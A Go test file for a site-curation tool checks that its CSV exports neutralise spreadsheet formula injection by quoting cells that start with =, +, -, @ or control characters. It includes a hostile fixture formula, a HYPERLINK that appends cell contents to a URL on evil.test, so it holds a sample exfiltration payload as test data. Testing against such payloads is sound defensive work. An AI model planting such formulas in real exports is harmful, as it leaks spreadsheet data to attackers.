package app

import (
	"bytes"
	"context"
	"encoding/csv"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"sitesift/sites/store"
)

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=SUM(A1)", "'=SUM(A1)"},
		{"+cmd", "'+cmd"},
		{"-x.test", "'-x.test"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"-1+2", "'-1+2"},
		{"-", "'-"},
		{"-Inf", "'-Inf"},
		{"-0x1p-2", "'-0x1p-2"},
		{"'=x", "''=x"},
		{"''-x", "'''-x"},
		// Numbers stay numbers; other text stays as it is.
		{"-0.5", "-0.5"},
		{"1e-9", "1e-9"},
		{"-1e-09", "-1e-09"},
		{"+3", "+3"},
		{"'-0.5", "''-0.5"},
		{"a=b", "a=b"},
		{"'x", "'x"},
		{"'", "'"},
		{"", ""},
		{" =x", " =x"},
		{"site.test", "site.test"},
	} {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if back := csvUncell(csvCell(tc.in)); back != tc.in {
			t.Errorf("csvUncell(csvCell(%q)) = %q", tc.in, back)
		}
	}
}

// FuzzCSVCell: a cell csvCell writes never starts a formula unless it is a
// decimal number, and csvUncell gives the text back.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "-0.5", "-1+2", "''@", "x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := csvCell(s)
		if c != "" && strings.IndexByte(csvFormulaStart, c[0]) >= 0 && !decimalNumber(c) {
			t.Fatalf("csvCell(%q) = %q starts a formula", s, c)
		}
		if back := csvUncell(c); back != s {
			t.Fatalf("csvUncell(csvCell(%q)) = %q", s, back)
		}
	})
}

// hostile is text a spreadsheet would run as a formula.
const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`

// TestCSVWritersNeutralise writes a hostile text through every CSV the
// product writes, in every text column, and checks that no cell of the
// output starts a formula.
func TestCSVWritersNeutralise(t *testing.T) {
	h := func(prefix string) string { return prefix + hostile }
	sel := SelectedSeed{SeedURL: h("="), SelectedSite: store.SelectedSite{Selection: store.Selection{
		Site: h("-"), Status: h("@"), Note: h(""), Subject: h("+"), DecidedBy: h("\t")}}}
	lab := &LabOutput{Experiment: "x"}
	for _, tc := range []struct {
		name  string
		write func(io.Writer) error
		want  int // hostile cells written
	}{
		{"ratings", func(w io.Writer) error {
			return WriteRatings(w, []store.Rating{{Librarian: h(""), Site: h("-"), Rating: 3, Note: h("@")}})
		}, 3},
		{"ratings table", func(w io.Writer) error {
			return WriteRatingsCSV(w, RatingsTable{Librarians: []string{h("")}, Rows: []RatingsRow{{Site: h("+"), Ratings: []int{2}, Mean: 2}}})
		}, 2},
		{"biased rank", func(w io.Writer) error {
			return WriteBiasedRank(w, []BiasedRankRow{{Site: h("")}}, FormatCSV)
		}, 1},
		{"communities", func(w io.Writer) error {
			return WriteCommunities(w, []Community{{Seed: h(""), Site: h("@")}}, FormatCSV)
		}, 2},
		{"selection", func(w io.Writer) error {
			return WriteSelection(w, []SelectedSeed{sel}, FormatCSV)
		}, 6},
		{"agreement", func(w io.Writer) error {
			return WriteAgreement(w, Agreement{Rows: []AgreementRow{{Rater: h(""), Kind: h("-")}}}, FormatCSV)
		}, 2},
		{"review queue", func(w io.Writer) error {
			return writeQueue(w, ReviewQueue{Rows: []QueueItem{{Site: h(""), Status: h("+")}}}, FormatCSV)
		}, 2},
		{"rank", func(w io.Writer) error {
			return WriteRank(w, []RankRow{{Site: h("")}, {Site: "plain.test"}, {Site: h("-")}}, FormatCSV)
		}, 2},
		{"seeds", func(w io.Writer) error {
			return WriteSeeds(w, []Seed{{SeedURL: h(""), Site: h("@")}}, FormatCSV)
		}, 2},
		{"lab", func(w io.Writer) error {
			if err := lab.add("x.csv", [][]string{{"graph", "value"}, {h(""), "-0.25"}}, nil); err != nil {
				return err
			}
			_, err := w.Write(lab.Files[0].Data)
			return err
		}, 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := tc.write(&buf); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			found := 0
			for _, row := range rows {
				for _, c := range row {
					if c != "" && strings.IndexByte(csvFormulaStart, c[0]) >= 0 && !decimalNumber(c) {
						t.Errorf("cell %q starts a formula", c)
					}
					if strings.HasSuffix(c, hostile) {
						found++
						if !strings.HasPrefix(c, "'") {
							t.Errorf("cell %q not quoted", c)
						}
					}
				}
			}
			if found != tc.want {
				t.Errorf("%d hostile cells, want %d: %q", found, tc.want, rows)
			}
		})
	}
}

// TestCSVWriterEverywhere: no file of the package but csvout.go makes a
// csv.Writer of its own, so every CSV goes through csvWriter.
func TestCSVWriterEverywhere(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	fset := token.NewFileSet()
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") || name == "csvout.go" {
			continue
		}
		f, err := parser.ParseFile(fset, name, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(f, func(n ast.Node) bool {
			if sel, ok := n.(*ast.SelectorExpr); ok {
				if id, ok := sel.X.(*ast.Ident); ok && id.Name == "csv" && (sel.Sel.Name == "NewWriter" || sel.Sel.Name == "Writer") {
					t.Errorf("%s: csv.%s: write CSV through newCSVWriter", fset.Position(sel.Pos()), sel.Sel.Name)
				}
			}
			return true
		})
	}
}

// TestRatingsCSVRoundTrip: ratings whose notes and librarian names start
// formulas, exported from one project and imported into another of the same
// sites, come back identical.
func TestRatingsCSVRoundTrip(t *testing.T) {
	ctx := context.Background()
	from, _ := openApp(t, buildCommunityProject(t))
	to, _ := openApp(t, buildCommunityProject(t))
	for _, r := range []store.Rating{
		{Librarian: "=lib", Site: "h1.test", Rating: 4, Note: "=SUM(A1)"},
		{Librarian: "ana", Site: "h1.test", Rating: 3, Note: "'=already quoted"},
		{Librarian: "ana", Site: "a2.test", Rating: 1, Note: "-1+2"},
		{Librarian: "+plus", Site: "b2.test", Rating: 2, Note: "\ttabbed\nnote"},
		{Librarian: "@at", Site: "a2.test", Rating: 2, Note: "-0.5"},
		{Librarian: "ben", Site: "b2.test", Rating: 3, Note: "''@x"},
	} {
		if _, err := from.Rate(ctx, r.Librarian, r.Site, r.Rating, r.Note); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if err := from.ExportRatingsCSV(ctx, &buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `'=lib,h1.test,4,'=SUM(A1)`) {
		t.Errorf("export does not neutralise formulas:\n%s", buf.String())
	}
	if _, err := to.ImportRatingsCSV(ctx, bytes.NewReader(buf.Bytes()), "ratings.csv"); err != nil {
		t.Fatal(err)
	}
	want, err := from.store.Ratings(ctx)
	if err != nil {
		t.Fatal(err)
	}
	got, err := to.store.Ratings(ctx)
	if err != nil {
		t.Fatal(err)
	}
	strip := func(rs []store.Rating) []store.Rating {
		out := slices.Clone(rs)
		for i := range out {
			out[i].RatedAt = time.Time{} // when it was rated, not what
		}
		return out
	}
	if !slices.Equal(strip(got), strip(want)) {
		t.Errorf("imported %+v\nwant %+v", got, want)
	}
}
